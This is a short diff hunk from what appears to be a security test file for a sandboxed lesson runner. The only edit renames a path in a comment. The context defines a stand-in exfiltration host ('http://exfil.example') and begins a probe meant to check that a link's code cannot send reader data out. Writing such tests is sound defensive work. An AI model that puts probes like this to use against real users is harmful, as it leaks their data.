@@ -238,7 +238,7 @@ test("a damaged link, or one for an example the lesson no longer has, is refused
 
 /**
  * What a link's code could try in order to send the reader's data out. The runner's policy
- * (build/security-headers.ts) and the frame's sandbox must stop each before a request leaves.
+ * (pipeline/security-headers.ts) and the frame's sandbox must stop each before a request leaves.
  */
 const OUT = "http://exfil.example";
 const sendingProbe = `import { useEffect, useState } from "react";
